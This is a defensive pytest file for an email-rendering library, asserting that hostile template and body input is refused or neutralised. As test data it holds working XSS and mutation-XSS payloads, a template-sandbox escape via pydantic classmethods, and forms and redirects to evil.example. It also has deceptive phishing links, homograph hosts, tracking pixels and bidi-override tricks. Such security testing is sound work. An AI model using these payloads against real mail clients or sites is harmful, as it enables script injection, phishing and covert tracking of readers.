"""The eleventh outside tester's catalogue: an attacker who wants script,
tracking or a forged header into a reader's inbox (or an editor's preview).

Each case is an input and its expected outcome: rendered safely, or refused
with a named MailkitError naming the field or template and line. Same spirit
as tests/test_hostile_input.py.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from test_hostile_input import BASE, dangerous, expand

import mailkit


def author_render(tmp_path: Path, content: str) -> mailkit.RenderedEmail:
    """Render a template author's template whose content block is ``content``."""
    (tmp_path / "t.mjml.j2").write_text(
        '{% extends "layouts/base.mjml.j2" %}{% import "partials/components.mjml.j2" as ui with context %}'
        "{% block content %}" + content + "{% endblock %}", encoding="utf-8")
    return mailkit.Renderer(template_dirs=(tmp_path,)).render("t", expand(BASE))


# --- template authors: what pydantic's BaseModel gives every model -----------
# The sandbox refused model_dump() and friends when called on a model, but a
# classmethod (model_construct, model_validate, model_rebuild, construct ...) is
# bound to the class, and pydantic's v1 names (copy, dict, construct, parse_obj)
# do not start with model_: a story built with model_construct skips every
# validator (the URL gate included), so mailkit's own ui.story macro wrote
# href="javascript:alert(1)"; model_rebuild(force=True) rebuilt a class every
# renderer shares.
BASEMODEL_REACH = [
    "{{ article.model_construct }}",
    "{{ article.model_validate }}",
    "{{ article.model_rebuild }}",
    "{{ article.model_json_schema }}",
    "{{ article.model_fields }}",
    "{{ article.model_copy }}",
    "{{ article.construct }}",
    "{{ article.copy }}",
    "{{ article.dict }}",
    "{{ article.parse_obj }}",
    "{{ article.schema_json }}",
    "{{ article['model_construct'] }}",
    "{{ article | attr('copy') }}",
    "{{ edition.newsletter.brand.model_copy }}",
    "{{ edition.model_construct }}",
]


@pytest.mark.parametrize("expression", BASEMODEL_REACH)
def test_basemodel_machinery_is_out_of_a_templates_reach(tmp_path: Path, expression: str) -> None:
    with pytest.raises(mailkit.TemplateError, match=r"t\.mjml\.j2, line 1: "):
        author_render(tmp_path, "<mj-section><mj-column><mj-text>" + expression + "</mj-text></mj-column></mj-section>")


def test_a_story_built_past_the_validators_never_reaches_a_link(tmp_path: Path) -> None:
    fields: dict[str, Any] = {"url": "javascript:alert(1)", "headline": "x", "authors": [], "related": [],
                              "image": None, "body": None, "dek": None, "kicker": None, "section": None,
                              "dateline": None, "updated_at": None, "contributors": None, "lang": None,
                              "summary": None}
    args = ", ".join(f"{k!r}: {v!r}".replace("None", "none") for k, v in fields.items())
    content = ("{% set a = article.model_construct(**{" + args + ", 'published_at': article.published_at}) %}"
               '{{ ui.story(a, "K", "Read") }}')
    with pytest.raises(mailkit.TemplateError, match=r"t\.mjml\.j2, line 1"):
        email = author_render(tmp_path, content)
        assert dangerous(email.html) == []  # what the render would have written


def test_fields_and_mailkits_own_properties_stay_readable(tmp_path: Path) -> None:
    email = author_render(tmp_path, "<mj-section><mj-column><mj-text>[{{ article.headline }}|"
                          "{{ edition.newsletter.brand.name }}]</mj-text></mj-column></mj-section>")
    assert re.search(r"\[China[^|]*\|NBC News\]", email.html)


# --- body HTML: mutation XSS through nh3 -> lxml -> MRML -> premailer ------------
def render_body(body: str, template: str = "breaking", inliner: str = "premailer") -> mailkit.RenderedEmail:
    data = expand(BASE)
    data["articles"][0]["body"] = body
    return mailkit.render(template, data, {"inliner": inliner})


MUTATIONS = {
    "noscript-title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>after</p>',
    "svg-style": "<svg><style><img src=x onerror=alert(1)></style></svg><p>after</p>",
    "math-mglyph": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "comment-short": "<p>a<!--><img src=x onerror=alert(1)>--></p>",
    "comment-bang": "<p>a<!--!><img src=x onerror=alert(1)>--!></p>",
    "cdata": "<p><![CDATA[<img src=x onerror=alert(1)>]]></p>",
    "textarea": "<textarea></textarea><img src=x onerror=alert(1)></textarea><p>x</p>",
    "title": "<title></title><img src=x onerror=alert(1)></title>",
    "xmp": "<xmp><img src=x onerror=alert(1)></xmp>",
    "plaintext": "<p>a</p><plaintext><img src=x onerror=alert(1)>",
    "iframe-text": "<iframe><img src=x onerror=alert(1)></iframe><p>x</p>",
    "noembed": "<noembed><img src=x onerror=alert(1)></noembed>",
    "unclosed-comment": "<p>a</p><!-- <img src=x onerror=alert(1)>",
    "mj-text-breakout": "<p>a</mj-text><mj-raw><script>alert(1)</script></mj-raw><mj-text></p>",
    "mj-raw": "<mj-raw><img src=x onerror=alert(1)></mj-raw><p>x</p>",
    "mso-conditional": "<p>a</p><!--[if mso]><script>alert(1)</script><v:rect href='javascript:alert(1)'/><![endif]-->",
    "downlevel-revealed": "<p>a</p><![if !mso]><img src=x onerror=alert(1)><![endif]>",
    "vml": ('<v:rect xmlns:v="urn:schemas-microsoft-com:vml" href="javascript:alert(1)">'
            '<v:fill src="https://t.example/p.gif"/></v:rect><p>x</p>'),
    "style-url": '<p style="background:url(javascript:alert(1))">a</p>',
    "style-expression": '<p style="width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x.xml#x)">a</p>',
    "style-overlay": '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">PHISH</div>',
    "style-import": "<style>@import 'https://t.example/x.css';</style><p>x</p>",
    "tab-in-scheme": '<p><a href="jav&#x09;ascript:alert(1)">x</a></p>',
    "entity-scheme": '<p><a href="&#106;avascript:alert(1)">x</a></p>',
    "vbscript": '<p><a href="vbscript:msgbox(1)">x</a></p>',
    "data-html": '<p><a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a></p>',
    "base": '<base href="https://evil.example/"><p><a href="x">x</a></p>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>x</p>',
    "form": ('<form action="https://evil.example"><input name=p><button formaction="javascript:alert(1)">go'
             "</button></form><p>x</p>"),
    "srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe><p>x</p>',
    "ping-target": '<p><a href="https://e.example/" target="_parent" ping="https://t.example/p" rel="opener">x</a></p>',
    "link-prefetch": '<link rel=prefetch href="https://t.example/"><p>x</p>',
    "entity-attribute-name": '<p><img src="https://e.example/a.jpg" alt="a" o&#110;error="alert(1)"></p>',
    "cite-javascript": '<blockquote cite="javascript:alert(1)">q</blockquote><q cite="javascript:alert(1)">x</q>',
    "lang-breakout": '<p lang="en&quot; onmouseover=&quot;alert(1)">x</p>',
    "abbr-title-mjml": '<p><abbr title="</mj-text><mj-raw><script>alert(1)</script></mj-raw>">x</abbr></p>',
}
TEMPLATE_SYNTAX = "<p>{{ 7*7 }} {% if true %}EVALUATED{% endif %} {{ cycler.__init__.__globals__ }} {#c#}</p>"


@pytest.mark.parametrize("body", MUTATIONS.values(), ids=MUTATIONS.keys())
def test_mutation_xss_renders_inert(body: str) -> None:
    email = render_body(body)
    assert dangerous(email.html) == []
    lowered = email.html.lower()
    for needle in ("javascript:", "vbscript:", "data:text/html", "expression(", "-moz-binding", "behavior:",
                   "position:fixed", "t.example", "evil.example", "<v:", "ping=", "target=\"_parent", "srcdoc"):
        assert needle not in lowered, needle
    # whatever script text survives is text: escaped in the HTML, and never a tag in the text part
    assert "<img src=x" not in email.html and "<script" not in email.html
    assert "\x1b" not in email.text


def test_template_syntax_in_content_is_never_evaluated() -> None:
    email = render_body(TEMPLATE_SYNTAX)
    assert "{{ 7*7 }}" in email.text and "{% if true %}EVALUATED{% endif %}" in email.text
    assert "49" not in email.text.replace("2014", "")


@pytest.mark.browser
@pytest.mark.parametrize("inliner", ["premailer", "css-inline"])
def test_nothing_runs_in_chromium(browser: Any, inliner: str) -> None:  # type: ignore[no-untyped-def]
    pytest.importorskip("css_inline") if inliner == "css-inline" else None
    body = "".join(MUTATIONS.values())
    email = render_body(body, inliner=inliner)
    context = browser.new_context(viewport={"width": 600, "height": 900})
    page = context.new_page()
    requests: list[str] = []
    page.route("**/*", lambda route: (requests.append(route.request.url), route.abort()))
    ran: list[str] = []
    page.on("dialog", lambda dialog: (ran.append("dialog: " + dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: ran.append(f"error: {error}"))
    page.set_content(email.html, wait_until="load")
    page.mouse.move(100, 100)
    page.mouse.click(100, 300)
    forms = page.evaluate("document.querySelectorAll('form, base, meta[http-equiv=refresh i], iframe, script, object, embed').length")
    context.close()
    assert ran == [] and forms == 0
    assert not [u for u in requests if "t.example" in u or "evil.example" in u]


# --- links whose text shows another address than they go to (phishing) -----------
# A body link reading "https://www.nbcnews.com/account" that goes to evil.example
# passed every gate (its href is a fine https URL) without a word: the text part
# shows the real URL in its links list, the HTML only the lie.
DECEPTIVE = {
    "other-host": ('<p><a href="https://evil.example/login">https://www.nbcnews.com/account</a></p>', "evil.example"),
    "www-text": ('<p>Sign in at <a href="https://evil.example/">www.nbcnews.com</a></p>', "evil.example"),
    "homograph-text": ('<p><a href="https://nbcn\u0435ws.com/">https://www.nbcnews.com</a></p>', "xn--nbcnws-6of.com"),
    "in-emphasis": ('<p><a href="https://evil.example/"><strong>https://nbcnews.com/</strong></a></p>', "evil.example"),
    "lookalike-suffix": ('<p><a href="https://nbcnews.com.evil.example/">https://nbcnews.com/x</a></p>',
                         "nbcnews.com.evil.example"),
}


@pytest.mark.parametrize(("body", "host"), DECEPTIVE.values(), ids=DECEPTIVE.keys())
def test_a_link_showing_another_address_is_a_warning(body: str, host: str) -> None:
    email = render_body(body)
    found = [w for w in email.warnings if w.code == "link-text-mismatch"]
    assert len(found) == 1, email.warnings
    assert found[0].field == "articles[0].body" and host in found[0] and "nbcnews.com" in found[0]


HONEST = {
    "same-host": '<p><a href="https://www.nbcnews.com/politics">https://www.nbcnews.com/politics</a></p>',
    "www-dropped": '<p><a href="https://www.nbcnews.com/politics">nbcnews.com/politics</a></p>',
    "subdomain": '<p><a href="https://link.nbcnews.com/x?u=1">https://www.nbcnews.com/politics</a></p>',
    "idn-shown-unicode": '<p><a href="https://xn--bcher-kva.example/">https://bücher.example/</a></p>',
    "prose": '<p><a href="https://nodejs.org/">Node.js</a> and <a href="https://e.example/">U.S. officials</a></p>',
    "mailto": '<p><a href="mailto:tips@nbcnews.com">tips@nbcnews.com</a></p>',
}


@pytest.mark.parametrize("body", HONEST.values(), ids=HONEST.keys())
def test_a_link_showing_its_own_address_is_no_warning(body: str) -> None:
    email = render_body(body)
    assert [w for w in email.warnings if w.code == "link-text-mismatch"] == []


# --- characters a body writes as character references --------------------------
# A text field refuses control characters and bidi overrides by position; a
# body's "&#x202E;" (the "gnp.exe" -> "exe.png" trick) reached the HTML, the
# text part and the preheader, "&#x7f;" and "&#x81;" reached both parts as DEL
# and C1 controls, and "&#27;" (ESC: terminal escapes in the text part),
# "&#1;", "&#x0B;" and "&#xFFFE;" made MRML fail with "unable to parse next
# template in root template", naming neither the field nor the place.
REFERENCES = {
    "esc": ("<p>&#27;[31mRED</p>", r"control character U\+001B written '&#27;' at position 3"),
    "esc-no-semicolon": ("<p>a &#27 b</p>", r"control character U\+001B written '&#27' at position 5"),
    "soh": ("<p>&#1;x</p>", r"control character U\+0001"),
    "vt": ("<p>&#x0B;x</p>", r"control character U\+000B"),
    "del": ("<p>&#x7f;x</p>", r"control character U\+007F"),
    "c1-not-in-cp1252": ("<p>&#x81;x</p>", r"control character U\+0081"),
    "nonchar": ("<p>&#xFFFE;x</p>", r"non-character U\+FFFE"),
    "bidi-hex": ("<p>photo&#x202E;gnp.exe</p>", r"bidi override U\+202E written '&#x202E;' at position 8"),
    "bidi-decimal": ("<p>x&#8238;y</p>", r"bidi override U\+202E"),
    "zero-padded": ("<p>&#x" + "0" * 5000 + "1b;</p>", r"control character U\+001B"),
    "in-attribute": ('<p><img src="https://e.example/a.jpg" alt="a&#x202d;b"></p>', r"bidi override U\+202D"),
}


@pytest.mark.parametrize(("body", "message"), REFERENCES.values(), ids=REFERENCES.keys())
def test_a_refused_character_written_as_a_reference_is_refused_too(body: str, message: str) -> None:
    with pytest.raises(mailkit.UnsafeInputError, match=r"articles\[0\]\.body: " + message):
        render_body(body)


@pytest.mark.parametrize("body", [
    "<p>&#133; &#146;quoted&#148; &#150; &#x9b;</p>",  # Windows-1252 as HTML reads it: … ’ ” – ›
    "<p>&#x200F;&#x200E;&#x2066;a&#x2069; &#9;tab &#10; &#xA0; &#0; &#xD800;</p>",  # marks, isolates, U+FFFD
    "<p>&#" + "1" * 5000 + "; &#x" + "0" * 5000 + "27;</p>",  # past U+10FFFF: U+FFFD, not int()'s ValueError
], ids=["windows-1252", "marks-and-replacements", "long-numbers"])
def test_references_html_reads_as_printable_characters_stay(body: str) -> None:
    email = render_body(body)
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e]", email.text + email.html)


# --- lxml's own wrapper leaking into a body ---------------------------------------
# (the tree is written back only when something in it changed: an SVG's text, a lazy image, an embed)
SVG = '<p>Chart: <svg aria-label="Turnout by age"></svg></p>'


@pytest.mark.parametrize("body", [SVG + "<p>a</p><xmp>hello", SVG + "<p>a</p><plaintext>hello",
                                  SVG + "<p>a<title>hello", '<p><img data-src="https://e.example/a.jpg" alt="a"></p><xmp>x',
                                  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"])
def test_an_unclosed_raw_text_element_shows_no_end_tags_of_the_parsers_wrapper(body: str) -> None:
    email = render_body(body)
    assert "</body></html>" not in email.text and "&lt;/body&gt;" not in email.html
    assert dangerous(email.html) == []


# --- tracking pixels in a body ------------------------------------------------------
# A wire story's beacon (<img src="https://pixel.wire.example/..." width="1"
# height="1">) reached every reader's inbox without a word: it tells a third
# party who opened the email. It goes, with the element-dropped warning.
PIXELS = {
    "wire-beacon": '<p>Story.</p><img src="https://pixel.wire.example/b.gif?id=9" width="1" height="1" alt="">',
    "in-paragraph": '<p>Story.<img src="https://t.example/o.png" height="1" width="1"></p>',
    "in-link": '<p><a href="https://e.example/"><img src="https://t.example/o.png" width="1" height="1" alt=""></a></p>',
}


@pytest.mark.parametrize("body", PIXELS.values(), ids=PIXELS.keys())
def test_a_tracking_pixel_in_a_body_goes_with_a_warning(body: str) -> None:
    email = render_body(body)
    assert "t.example" not in email.html and "pixel.wire.example" not in email.html
    assert any(w.code == "element-dropped" and "tracking pixel" in w for w in email.warnings), email.warnings


def test_small_images_that_are_not_pixels_stay() -> None:
    body = ('<p><img src="https://e.example/rule.png" width="600" height="1" alt="">'
            '<img src="https://e.example/icon.png" width="16" height="16" alt="Icon"></p>')
    email = render_body(body)
    assert "rule.png" in email.html and "icon.png" in email.html
    assert not any("tracking pixel" in w for w in email.warnings)


# --- homographs: a host that mixes scripts in one label ------------------------------
HOMOGRAPHS = {
    "cyrillic-e": '<p><a href="https://nbcn\u0435ws.com/story">Read more</a></p>',
    "greek-omicron": '<p><a href="https://g\u03bfogle.com/">search</a></p>',
    "punycode-written": '<p><a href="https://xn--nbcnws-6of.com/">Read more</a></p>',
}


@pytest.mark.parametrize("body", HOMOGRAPHS.values(), ids=HOMOGRAPHS.keys())
def test_a_link_to_a_host_mixing_scripts_is_a_warning(body: str) -> None:
    email = render_body(body)
    found = [w for w in email.warnings if w.code == "link-homograph"]
    assert len(found) == 1 and found[0].field == "articles[0].body" and "xn--" in found[0], email.warnings


@pytest.mark.parametrize("body", [
    ('<p><a href="https://b\u00fccher.example/">German</a> <a href="https://\u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444/">'
     'Russian</a> <a href="https://\u4f8b\u3048.jp/">Japanese</a> <a href="https://www.nbcnews.com/">ASCII</a></p>'),
])
def test_a_link_to_a_host_in_one_script_is_no_homograph(body: str) -> None:
    email = render_body(body)
    assert [w for w in email.warnings if w.code == "link-homograph"] == []
